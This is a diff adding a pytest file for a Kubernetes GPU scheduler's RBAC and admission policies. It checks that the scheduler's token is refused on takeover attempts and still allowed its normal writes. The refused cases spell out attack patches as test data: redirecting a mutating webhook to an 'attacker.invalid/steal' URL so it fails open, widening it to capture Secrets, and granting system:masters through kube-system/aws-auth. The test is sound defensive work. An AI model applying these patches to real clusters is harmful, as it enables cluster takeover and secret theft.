@@ -1,0 +1,349 @@
+"""The scheduler's token does the scheduler's work and nothing more: the shipped RBAC and admission policies.
+
+The token is the one a pod of the scheduler's Deployment mounts: a
+ServiceAccount token bound to a pod in the gpuwarden namespace. Every
+refused write below was answered 200 before the admission policies
+(manifests/scheduler/admission-policy.yaml) and the narrower RBAC; every
+allowed one is a write the scheduler really makes, in the shape its code
+sends it.
+"""
+
+from __future__ import annotations
+
+import contextlib
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+from kubernetes import client
+
+from gpuwarden import contract
+from scheduler.cluster.sliceconfig import config_map_name
+from tests.harness import ControlPlane, create_gpu_node, pod_bound_token, unique_name
+from tests.scheduler.cluster.kube_objects import publish_health
+from tests.waiting import wait_for
+
+pytestmark = [pytest.mark.k8s, pytest.mark.usefixtures("scheduler_rbac", "scheduler_crds", "gpunode_crd")]
+
+SA = "gpuwarden-scheduler"
+SA_NAMESPACE = "gpuwarden"
+WEBHOOK = "gpuwarden-webhook"
+MERGE = "application/merge-patch+json"
+
+
+def _status(call: Callable[[], Any]) -> int:
+    """The HTTP status of one request (200 when it was allowed)."""
+    try:
+        call()
+    except client.ApiException as exc:
+        return int(exc.status)
+    return 200
+
+
+@pytest.fixture
+def scheduler_token(control_plane: ControlPlane, k8s: client.ApiClient) -> Iterator[client.ApiClient]:
+    """A client with the token a scheduler pod mounts (bound to a pod of the ServiceAccount)."""
+    with pod_bound_token(k8s, SA, SA_NAMESPACE) as token:
+        config = control_plane.configuration()
+        config.api_key = {"authorization": token}
+        with client.ApiClient(config) as api:
+            yield api
+
+
+@pytest.fixture
+def node(k8s: client.ApiClient) -> Iterator[str]:
+    name = unique_name("token-node")
+    create_gpu_node(k8s, name, gpus=8)
+    publish_health(k8s, name)
+    try:
+        yield name
+    finally:
+        with contextlib.suppress(client.ApiException):
+            client.CoreV1Api(k8s).delete_node(name)
+        with contextlib.suppress(client.ApiException):
+            client.CustomObjectsApi(k8s).delete_cluster_custom_object(
+                contract.API_GROUP, contract.API_VERSION, contract.GPUNODE_PLURAL, name
+            )
+
+
+@pytest.fixture
+def webhook_configuration(k8s: client.ApiClient) -> Iterator[str]:
+    """The scheduler's own MutatingWebhookConfiguration, sending nothing anywhere (no pod carries its label)."""
+    admission = client.AdmissionregistrationV1Api(k8s)
+    with contextlib.suppress(client.ApiException):
+        admission.delete_mutating_webhook_configuration(WEBHOOK)
+    admission.create_mutating_webhook_configuration(
+        {
+            "apiVersion": "admissionregistration.k8s.io/v1",
+            "kind": "MutatingWebhookConfiguration",
+            "metadata": {"name": WEBHOOK},
+            "webhooks": [
+                {
+                    "name": "gpu-sharing.scheduling.gpuwarden.io",
+                    "admissionReviewVersions": ["v1"],
+                    "sideEffects": "None",
+                    "failurePolicy": "Fail",
+                    "clientConfig": {"service": {"name": WEBHOOK, "namespace": SA_NAMESPACE, "path": "/mutate"}},
+                    "rules": [
+                        {"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}
+                    ],
+                    "objectSelector": {"matchLabels": {"test.gpuwarden.io/never-set": "x"}},
+                }
+            ],
+        }
+    )
+    try:
+        yield WEBHOOK
+    finally:
+        with contextlib.suppress(client.ApiException):
+            admission.delete_mutating_webhook_configuration(WEBHOOK)
+
+
+def _wait_for_policies(core: client.CoreV1Api, namespace: str) -> None:
+    """Until the API server enforces the policies, which take effect a moment after they are created.
+
+    The probe creates a ConfigMap that is no GPU slice's under a new name
+    each time: one admitted before the policy loaded is harmless litter in
+    the test's namespace.
+    """
+
+    def refused() -> bool:
+        probe = {"metadata": {"name": unique_name("probe")}, "data": {"k": "v"}}
+        return _status(lambda: core.create_namespaced_config_map(namespace, probe)) == 403
+
+    wait_for(refused, timeout=30, interval=0.5, description="the scheduler's admission policies in force")
+
+
+def _unscheduled(name: str) -> dict[str, Any]:
+    """A pod no scheduler takes: the test binds it itself."""
+    return {
+        "metadata": {"name": name},
+        "spec": {"schedulerName": "nobody", "containers": [{"name": "c", "image": "x"}]},
+    }
+
+
+def _running_pod(k8s: client.ApiClient, namespace: str, node: str, name: str) -> client.V1Pod:
+    return client.CoreV1Api(k8s).create_namespaced_pod(
+        namespace,
+        client.V1Pod(
+            metadata=client.V1ObjectMeta(name=name, labels={"app": name}),
+            spec=client.V1PodSpec(
+                node_name=node, containers=[client.V1Container(name="c", image="registry.invalid/system:1")]
+            ),
+        ),
+    )
+
+
+def test_the_scheduler_token_cannot_take_over_the_cluster(
+    k8s: client.ApiClient,
+    scheduler_token: client.ApiClient,
+    node: str,
+    webhook_configuration: str,
+    namespace: str,
+) -> None:
+    core = client.CoreV1Api(scheduler_token)
+    admin = client.CoreV1Api(k8s)
+    _wait_for_policies(core, namespace)
+    with contextlib.suppress(client.ApiException):  # the test control plane starts without it
+        admin.create_namespace({"metadata": {"name": "kube-system"}})
+    system_pod = _running_pod(k8s, "kube-system", node, unique_name("coredns"))
+    for name, ns in (("aws-auth", "kube-system"), ("gpuwarden-agent-test", SA_NAMESPACE)):
+        with contextlib.suppress(client.ApiException):
+            admin.create_namespaced_config_map(ns, {"metadata": {"name": name}, "data": {"k": "v"}})
+    admission = client.AdmissionregistrationV1Api(scheduler_token)
+    custom = client.CustomObjectsApi(scheduler_token)
+    gpunode = (contract.API_GROUP, contract.API_VERSION, contract.GPUNODE_PLURAL, node)
+    redirect = {
+        "webhooks": [
+            {
+                "name": "gpu-sharing.scheduling.gpuwarden.io",
+                "clientConfig": {"url": "https://attacker.invalid/steal", "service": None},
+                "failurePolicy": "Ignore",
+            }
+        ]
+    }
+    widen = {
+        "webhooks": [
+            {
+                "name": "gpu-sharing.scheduling.gpuwarden.io",
+                "rules": [
+                    {
+                        "operations": ["CREATE", "UPDATE"],
+                        "apiGroups": [""],
+                        "apiVersions": ["v1"],
+                        "resources": ["secrets", "configmaps"],
+                    }
+                ],
+                "objectSelector": {},
+            }
+        ]
+    }
+    refused = {
+        "change the image of a running kube-system pod": lambda: core.patch_namespaced_pod(
+            system_pod.metadata.name,
+            "kube-system",
+            {"spec": {"containers": [{"name": "c", "image": "registry.invalid/evil:1"}]}},
+        ),
+        "send its webhook's requests elsewhere, failing open": lambda: admission.patch_mutating_webhook_configuration(
+            webhook_configuration, redirect
+        ),
+        "send Secrets and ConfigMaps to its webhook": lambda: admission.patch_mutating_webhook_configuration(
+            webhook_configuration, widen
+        ),
+        "patch kube-system/aws-auth": lambda: core.patch_namespaced_config_map(
+            "aws-auth", "kube-system", {"data": {"mapRoles": "- rolearn: x\n  groups: [system:masters]"}}
+        ),
+        "patch the agent's ConfigMap": lambda: core.patch_namespaced_config_map(
+            "gpuwarden-agent-test", SA_NAMESPACE, {"data": {"k": "evil"}}
+        ),
+        "create a ConfigMap that is no GPU slice's": lambda: core.create_namespaced_config_map(
+            namespace, {"metadata": {"name": "innocent"}, "data": {"k": "v"}}
+        ),
+        "delete a kube-system pod, past its disruption budget": lambda: core.delete_namespaced_pod(
+            system_pod.metadata.name, "kube-system"
+        ),
+        "taint a node NoExecute": lambda: core.patch_node(
+            node, {"spec": {"taints": [{"key": "evict-everything", "effect": "NoExecute"}]}}
+        ),
+        "make its own taint NoExecute": lambda: core.patch_node(
+            node, {"spec": {"taints": [{"key": contract.TAINT_QUARANTINE, "effect": "NoExecute"}]}}
+        ),
+        "label a node as control plane": lambda: core.patch_node(
+            node, {"metadata": {"labels": {"node-role.kubernetes.io/control-plane": ""}}}
+        ),
+        "annotate a node outside gpuwarden.io": lambda: core.patch_node(
+            node, {"metadata": {"annotations": {"example.com/owner": "me"}}}
+        ),
+        "change a node's provider ID": lambda: core.patch_node(node, {"spec": {"providerID": "aws:///evil"}}),
+        "label a GPUNode": lambda: custom.patch_cluster_custom_object(
+            *gpunode, {"metadata": {"labels": {"example.com/x": "y"}}}, _content_type=MERGE
+        ),
+        "write a GPUNode's health": lambda: custom.patch_cluster_custom_object_status(
+            *gpunode, {"status": {"gpus": []}}, _content_type=MERGE
+        ),
+        "read a Secret": lambda: core.read_namespaced_secret("bootstrap-token", "kube-system"),
+        "create a pod": lambda: core.create_namespaced_pod(
+            namespace, {"metadata": {"name": "x"}, "spec": {"containers": [{"name": "c", "image": "x"}]}}
+        ),
+    }
+    answers = {what: _status(call) for what, call in refused.items()}
+    assert answers == dict.fromkeys(refused, 403)
+    stored = admin.read_node(node)
+    assert "node-role.kubernetes.io/control-plane" not in (stored.metadata.labels or {})
+    assert not [t for t in stored.spec.taints or [] if t.effect == "NoExecute"]
+    hook = client.AdmissionregistrationV1Api(k8s).read_mutating_webhook_configuration(webhook_configuration)
+    assert hook.webhooks[0].failure_policy == "Fail"
+    assert hook.webhooks[0].client_config.url is None
+    assert admin.read_namespaced_config_map("aws-auth", "kube-system").data == {"k": "v"}
+    admin.delete_namespaced_pod(system_pod.metadata.name, "kube-system", grace_period_seconds=0)
+    for name, ns in (("aws-auth", "kube-system"), ("gpuwarden-agent-test", SA_NAMESPACE)):
+        admin.delete_namespaced_config_map(name, ns)
+
+
+def test_every_write_the_scheduler_makes_is_still_allowed(
+    k8s: client.ApiClient,
+    scheduler_token: client.ApiClient,
+    node: str,
+    webhook_configuration: str,
+    namespace: str,
+) -> None:
+    core = client.CoreV1Api(scheduler_token)
+    admin = client.CoreV1Api(k8s)
+    _wait_for_policies(core, namespace)
+    # Remediation: cordon, its own taint, its label and record, decided from the Node's resourceVersion.
+    version = admin.read_node(node).metadata.resource_version
+    quarantine = {
+        "metadata": {
+            "resourceVersion": version,
+            "labels": {contract.LABEL_REMEDIATION_STATE: "quarantined"},
+            "annotations": {contract.ANNOTATION_QUARANTINED_GPUS: "3"},
+        },
+        "spec": {
+            "unschedulable": True,
+            "taints": [{"key": contract.TAINT_QUARANTINE, "effect": "NoSchedule"}],
+        },
+    }
+    assert _status(lambda: core.patch_node(node, quarantine)) == 200
+    # The same patch again is stale: its resourceVersion is from before the first.
+    assert _status(lambda: core.patch_node(node, quarantine)) == 409
+    release = {"metadata": {"labels": {contract.LABEL_REMEDIATION_STATE: None}}, "spec": {"taints": None}}
+    assert _status(lambda: core.patch_node(node, release)) == 200
+    # Its requests to the agent.
+    custom = client.CustomObjectsApi(scheduler_token)
+    gpunode = (contract.API_GROUP, contract.API_VERSION, contract.GPUNODE_PLURAL, node)
+    request = {
+        "spec": {contract.GPUNODE_REMEDIATION: {contract.REMEDIATION_RESETS: [], contract.REMEDIATION_VALIDATIONS: []}}
+    }
+    assert _status(lambda: custom.patch_cluster_custom_object(*gpunode, request, _content_type=MERGE)) == 200
+    # The webhook's certificate rotation: the caBundle and nothing else.
+    admission = client.AdmissionregistrationV1Api(scheduler_token)
+    bundle = {"webhooks": [{"name": "gpu-sharing.scheduling.gpuwarden.io", "clientConfig": {"caBundle": "Y2E="}}]}
+    assert _status(lambda: admission.patch_mutating_webhook_configuration(webhook_configuration, bundle)) == 200
+    # A GPU slice pod's ConfigMap, created and rewritten.
+    slice_pod = admin.create_namespaced_pod(
+        namespace,
+        {
+            "metadata": {"name": "slice"},
+            "spec": {"schedulerName": "nobody", "containers": [{"name": "c", "image": "x"}]},
+        },
+    )
+    slice_map = {
+        "metadata": {
+            "name": config_map_name("slice"),
+            "labels": {"app.kubernetes.io/managed-by": contract.SCHEDULER_COMPONENT},
+            "ownerReferences": [
+                {"apiVersion": "v1", "kind": "Pod", "name": "slice", "uid": slice_pod.metadata.uid, "controller": True}
+            ],
+        },
+        "data": {"CUDA_DEVICE_MEMORY_LIMIT": "40960m"},
+    }
+    assert _status(lambda: core.create_namespaced_config_map(namespace, slice_map)) == 200
+    assert (
+        _status(
+            lambda: core.patch_namespaced_config_map(
+                config_map_name("slice"), namespace, {"data": {"CUDA_DEVICE_MEMORY_LIMIT": "20480m"}}
+            )
+        )
+        == 200
+    )
+    # Binds and evictions of its own pods.
+    assert (
+        _status(
+            lambda: core.create_namespaced_pod_binding(
+                "slice",
+                namespace,
+                {"apiVersion": "v1", "kind": "Binding", "metadata": {"name": "slice"}, "target": {"name": node}},
+                _preload_content=False,
+            )
+        )
+        == 200
+    )
+    eviction = {"apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": "slice", "namespace": namespace}}
+    assert (
+        _status(lambda: core.create_namespaced_pod_eviction("slice", namespace, eviction, _preload_content=False))
+        == 200
+    )
+    # The delete-after-timeout drain: only where the namespace's admins allow it, only a bound pod.
+    doomed = _running_pod(k8s, namespace, node, "doomed")
+    assert _status(lambda: core.delete_namespaced_pod("doomed", namespace)) == 403
+    admin.patch_namespace(namespace, {"metadata": {"labels": {contract.LABEL_DRAIN_POLICY: "delete-after-timeout"}}})
+    wait_for(
+        lambda: (
+            _status(
+                lambda: core.delete_namespaced_pod(
+                    "doomed", namespace, body={"preconditions": {"uid": doomed.metadata.uid}}
+                )
+            )
+            == 200
+        ),
+        timeout=10,
+        description="the labelled namespace's bound pod deleted",
+    )
+    unbound = admin.create_namespaced_pod(
+        namespace,
+        {
+            "metadata": {"name": "unbound"},
+            "spec": {"schedulerName": "nobody", "containers": [{"name": "c", "image": "x"}]},
+        },
+    )
+    assert _status(lambda: core.delete_namespaced_pod(unbound.metadata.name, namespace)) == 403
